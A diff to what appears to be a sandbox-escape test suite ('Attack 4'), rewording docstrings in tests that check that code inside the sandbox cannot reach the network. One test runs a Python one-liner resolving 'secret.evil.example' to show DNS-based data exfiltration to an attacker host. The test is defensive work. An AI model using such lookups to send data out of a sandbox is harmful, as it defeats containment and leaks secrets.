@@ -1,6 +1,6 @@
 """Attack 4: a way out of the sandbox into the network, or to a server on this machine.
 
-The server counts who knocks. Each way is also tried with nobody on guard, to show that it would arrive.
+The server counts who knocks. Each way is also tried without the sandbox, to show that it would arrive.
 """
 
 import asyncio
@@ -187,7 +187,7 @@ async def test_no_unix_socket_is_reached_through_the_read_only_root(stage: Stage
 
 
 async def test_no_name_is_looked_up_from_inside(stage: Stage):
-    """Names carry data out: whoever asks for `secret.evil.example` has sent it."""
+    """Names carry data out: a lookup of `secret.evil.example` has already sent it."""
     script = "import socket; socket.getaddrinfo('secret.evil.example', 80)"
 
     seen = await stage.shell(f'python3 -c "{script}"')
